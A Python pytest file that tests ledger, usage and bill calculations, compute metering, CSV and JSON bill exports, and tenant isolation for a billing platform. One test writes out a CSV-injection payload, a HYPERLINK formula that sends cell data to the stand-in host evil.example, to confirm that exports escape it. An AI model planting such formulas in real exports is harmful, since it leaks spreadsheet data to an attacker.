"""Ledger → usage → bills over SQLite and PostgreSQL, compute metering through the real
control loop, and the usage/bill API (JSON and CSV)."""

from __future__ import annotations

import asyncio
import csv
import io
import secrets
from collections import Counter, defaultdict
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway_support import FakeKeys, MemorySink, chat_body, client_for, make_gateway, make_key
from suanwang.bootstrap import build_app
from suanwang.config import Settings
from suanwang.domain.billing import Meter, make_bill, parse_period
from suanwang.domain.jobs import JobSpec, JobState, Resources
from suanwang.domain.tenancy import Principal, Scope
from suanwang.domain.usage import ComputeUsage, Outcome, TokenUsage, UsageKind
from suanwang.services.metering import ComputeMeter
from suanwang.services.platform import Platform

NOV = parse_period("2026-11")
T = NOV.start + 86_400.0
OP = Principal("op", Scope.OPERATOR, None)
FLEET = """
regions: [{name: r1}]
clusters:
  - {name: sim, region: r1, kind: simulated, nodes: [{name: s1, chip: ascend-910b, cards: 8}]}
"""


def tokens(
    entry: str, tenant: str, model: str, prompt: int, completion: int, at: float = T
) -> TokenUsage:
    return TokenUsage(
        entry, tenant, "k", model, "/v1/chat/completions", prompt, completion, 200,
        Outcome.OK, at - 1, at, 1000.0,
    )  # fmt: skip


def compute(entry: str, tenant: str, chip: str, cards: int, seconds: float) -> ComputeUsage:
    return ComputeUsage(entry, tenant, f"job:{entry}#1", chip, cards, T, T + seconds)


rows = st.lists(
    st.one_of(
        st.tuples(
            st.just("t"),
            st.sampled_from(["smollm2-135m-instruct", "bge-m3", "no-such-model"]),
            st.integers(0, 10**6),
            st.integers(0, 10**6),
        ),
        st.tuples(
            st.just("c"),
            st.sampled_from(["ascend-910b", "cpu"]),
            st.integers(0, 64),
            st.integers(0, 10**5),
        ),
    ),
    max_size=25,
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(batch=rows, duplicates=st.lists(st.integers(0, 24), max_size=5))
def test_ledger_sum_equals_usage_equals_bill_lines(
    platform: Platform, batch: list[tuple[str, str, int, int]], duplicates: list[int]
) -> None:
    tenant = f"t-{secrets.token_hex(4)}"  # one tenant per example: examples share the database
    entries: list[TokenUsage | ComputeUsage] = [
        tokens(f"{tenant}-{i}", tenant, item, a, b)
        if kind == "t"
        else compute(f"{tenant}-{i}", tenant, item, a, b / 1000)
        for i, (kind, item, a, b) in enumerate(batch)
    ]
    replayed = [entries[i] for i in duplicates if i < len(entries)]
    with platform.uows() as uow:
        assert uow.usage.append(entries, T) == len(entries)
        assert uow.usage.append(replayed, T) == 0  # re-recording is a no-op
        uow.commit()
    expected: dict[tuple[UsageKind, str], Counter[str]] = defaultdict(Counter)
    for e in entries:
        if isinstance(e, TokenUsage):
            key = (UsageKind.TOKENS, e.model)
            expected[key].update(prompt=e.prompt_tokens, completion=e.completion_tokens)
        else:
            key = (UsageKind.COMPUTE, e.chip)
            expected[key].update(card_ms=e.cards * round((e.ended_at - e.started_at) * 1000))
        expected[key].update(entries=1)
    with platform.uows() as uow:
        totals = uow.usage.totals(tenant, NOV.start, NOV.end)
    got = {
        (t.kind, t.item): Counter(
            entries=t.entries,
            prompt=t.prompt_tokens,
            completion=t.completion_tokens,
            card_ms=t.card_ms,
        )
        for t in totals
    }
    assert {k: +v for k, v in got.items()} == {k: +v for k, v in expected.items()}
    bill = make_bill(tenant, "standard", NOV, totals, platform.billing.prices)
    for meter, name in ((Meter.PROMPT_TOKENS, "prompt"), (Meter.CARD_MS, "card_ms")):
        on_bill = sum(line.quantity for line in bill.lines if line.meter is meter)
        assert on_bill == sum(c[name] for c in expected.values())
    assert bill.total == sum(line.amount for line in bill.lines)
    assert all(line.quantity >= 0 and line.amount >= 0 for line in bill.lines)


def test_rows_count_in_the_period_they_end_in(platform: Platform) -> None:
    with platform.uows() as uow:
        uow.usage.append(
            [
                tokens("in", "acme", "bge-m3", 10, 0, at=NOV.start),
                tokens("last", "acme", "bge-m3", 20, 0, at=NOV.end - 0.001),
                tokens("next", "acme", "bge-m3", 40, 0, at=NOV.end),
            ],
            T,
        )
        uow.commit()
    with platform.uows() as uow:
        (total,) = uow.usage.totals("acme", NOV.start, NOV.end)
    assert (total.entries, total.prompt_tokens) == (2, 30)


def test_compute_of_a_simulated_job_is_metered_exactly_once(platform: Platform) -> None:
    platform.fleet.apply_yaml(FLEET)
    platform.tenancy.create_tenant("acme", "Acme", {})
    key = platform.tenancy.create_key(
        OP, tenant="acme", scope=Scope.TENANT_ADMIN, name="", expires_in_s=None
    )
    acme = platform.tenancy.authenticate(key.secret)
    spec = JobSpec(
        name="train", command=(), resources=Resources(chip="ascend"), simulate_duration_s=5000
    )
    job = platform.jobs.submit(acme, spec, None).job
    meter = ComputeMeter(platform.uows, platform.clock, interval_s=3600)
    clock: Any = platform.clock
    for _ in range(30):  # the real control loop with a metering step after each tick
        platform.control.tick()
        meter.run()
        if platform.jobs.get(acme, job.id).job.state is JobState.SUCCEEDED:
            break
        clock.advance(400)
    attempt = platform.jobs.get(acme, job.id).attempts[0]
    assert attempt.started_at is not None
    assert attempt.ended_at is not None
    assert ComputeMeter(platform.uows, platform.clock).run() == 0  # a restart re-meters nothing
    report = platform.billing.usage(OP, "acme", platform.billing.period("2027-01"))
    (total,) = report.totals
    cards = attempt.cards
    held_ms = round(attempt.ended_at * 1000) - round(attempt.started_at * 1000)
    assert (total.kind, total.item, total.card_ms) == (
        UsageKind.COMPUTE,
        "ascend-910b",
        cards * held_ms,
    )
    assert total.entries >= 2  # cut at the hour grid


@pytest.fixture
def api(settings: Settings, clock: Any) -> Iterator[tuple[TestClient, Platform, dict[str, str]]]:
    app = build_app(settings, control=False, clock=clock)
    platform: Platform = app.state.platform
    keys = {"op": platform.tenancy.bootstrap_operator_key().secret}
    for tenant in ("aaa", "bbb"):
        platform.tenancy.create_tenant(tenant, tenant, {})
        keys[tenant] = platform.tenancy.create_key(
            OP, tenant=tenant, scope=Scope.READ_ONLY, name="", expires_in_s=None
        ).secret
    with platform.uows() as uow:
        uow.usage.append(
            [
                tokens("a1", "aaa", "smollm2-135m-instruct", 1_000_000, 500_000),
                tokens("a2", "aaa", "smollm2-135m-instruct", 15, 0),
                compute("a3", "aaa", "ascend-910b", 8, 1800),
                tokens("b1", "bbb", "bge-m3", 7, 0),
            ],
            T,
        )
        uow.commit()
    with TestClient(app) as client:
        yield client, platform, keys


def auth(keys: dict[str, str], who: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {keys[who]}"}


def test_bill_json_and_csv_agree_with_usage(
    api: tuple[TestClient, Platform, dict[str, str]],
) -> None:
    client, _, keys = api
    usage = client.get("/api/v1/tenants/aaa/usage?period=2026-11", headers=auth(keys, "aaa"))
    assert usage.status_code == 200
    by_item = {t["item"]: t for t in usage.json()["totals"]}
    assert by_item["smollm2-135m-instruct"]["prompt_tokens"] == 1_000_015
    assert by_item["ascend-910b"]["card_ms"] == 8 * 1_800_000
    bill = client.get("/api/v1/tenants/aaa/bills/2026-11", headers=auth(keys, "aaa")).json()
    lines = {(line["item"], line["meter"]): line["amount_micro"] for line in bill["lines"]}
    assert lines == {
        ("ascend-910b", "card_ms"): 48_000_000,  # 4 card-hours at 12.000000
        ("smollm2-135m-instruct", "prompt_tokens"): 100_002,  # 1,000,015 at 0.1/M, half up
        ("smollm2-135m-instruct", "completion_tokens"): 100_000,
    }
    assert bill["total_micro"] == 48_200_002
    assert bill["total"] == "48.200002"
    text = client.get(
        "/api/v1/tenants/aaa/bills/2026-11", headers=auth(keys, "aaa") | {"Accept": "text/csv"}
    )
    assert text.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(text.text)))
    assert [r["amount_micro"] for r in table[:-1]] == [str(v) for v in lines.values()]
    assert table[-1]["kind"] == "total"
    assert table[-1]["amount_micro"] == "48200002"
    usage_csv = client.get("/api/v1/usage?period=2026-11&format=csv", headers=auth(keys, "op"))
    assert {r["tenant"] for r in csv.DictReader(io.StringIO(usage_csv.text))} == {"aaa", "bbb"}


FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]


class At:
    def now(self) -> float:
        return T


def gateway_rows(*models: str) -> list[TokenUsage]:
    """What the gateway records for requests to ``models`` (none of them deployed)."""
    keys, sink = FakeKeys(), MemorySink()
    key = keys.add("aaa")
    app = make_gateway([], keys=keys, sink=sink, clock=At())

    async def go() -> None:
        async with client_for(app) as client:
            for model in models:
                body = chat_body(model=model)
                await client.post("/v1/chat/completions", json=body, headers=auth({"k": key}, "k"))

    asyncio.run(go())
    return list(sink.rows.values())


def test_csv_exports_hold_no_formula_and_no_pasted_key(
    api: tuple[TestClient, Platform, dict[str, str]],
) -> None:
    """Requests naming a formula or a pasted key as the model reach the ledger as
    ``unknown``; text cells starting like a formula (rows written before that rule, or any
    name) are escaped with a leading ``'`` in the usage and bill CSV."""
    client, platform, keys = api
    pasted = make_key()
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"invoice")'
    legacy = [tokens(f"f{i}", "aaa", model, 10, 5) for i, model in enumerate(FORMULAS)]
    with platform.uows() as uow:
        uow.usage.append([*gateway_rows(formula, pasted), *legacy], T)
        uow.commit()
    exports = [
        client.get("/api/v1/tenants/aaa/bills/2026-11?format=csv", headers=auth(keys, "aaa")),
        client.get("/api/v1/usage?period=2026-11&format=csv", headers=auth(keys, "op")),
        client.get(
            "/api/v1/tenants/aaa/usage?period=2026-11&format=csv", headers=auth(keys, "aaa")
        ),
    ]
    for export in exports:
        assert export.status_code == 200
        assert "HYPERLINK" not in export.text
        assert pasted[3:20] not in export.text
        table = list(csv.reader(io.StringIO(export.text, newline="")))
        assert len({len(row) for row in table}) == 1  # a CR or LF in a cell cannot cut a row
        cells = [cell for row in table for cell in row]
        assert "unknown" in cells
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert {"'" + model for model in FORMULAS} <= set(cells)


def test_isolation_tiers_and_bad_periods(api: tuple[TestClient, Platform, dict[str, str]]) -> None:
    """Tenants see only their own usage and bills (404 like a missing tenant); only the
    operator sets tiers, which change prices; bad periods are 422 naming the field."""
    client, _, keys = api
    b = auth(keys, "bbb")
    assert client.get("/api/v1/tenants/aaa/bills/2026-11", headers=b).status_code == 404
    assert client.get("/api/v1/tenants/zzz/bills/2026-11", headers=b).status_code == 404
    assert client.get("/api/v1/tenants/aaa/usage", headers=b).status_code == 404
    assert client.get("/api/v1/usage?tenant=aaa", headers=b).status_code == 404
    mine = client.get("/api/v1/usage?period=2026-11", headers=b).json()["totals"]
    assert {t["tenant"] for t in mine} == {"bbb"}

    tier = {"tier": "edu"}
    assert (
        client.put("/api/v1/tenants/aaa/tier", json=tier, headers=auth(keys, "aaa")).status_code
        == 403
    )
    assert (
        client.put("/api/v1/tenants/aaa/tier", json=tier, headers=auth(keys, "op")).status_code
        == 200
    )
    bill = client.get("/api/v1/tenants/aaa/bills/2026-11", headers=auth(keys, "aaa")).json()
    assert bill["tier"] == "edu"
    assert bill["total_micro"] == 33_600_000 + 50_001 + 50_000

    for path in ("/api/v1/tenants/aaa/bills/2026-13", "/api/v1/usage?period=x"):
        response = client.get(path, headers=auth(keys, "op"))
        assert response.status_code == 422
        assert "period" in response.text
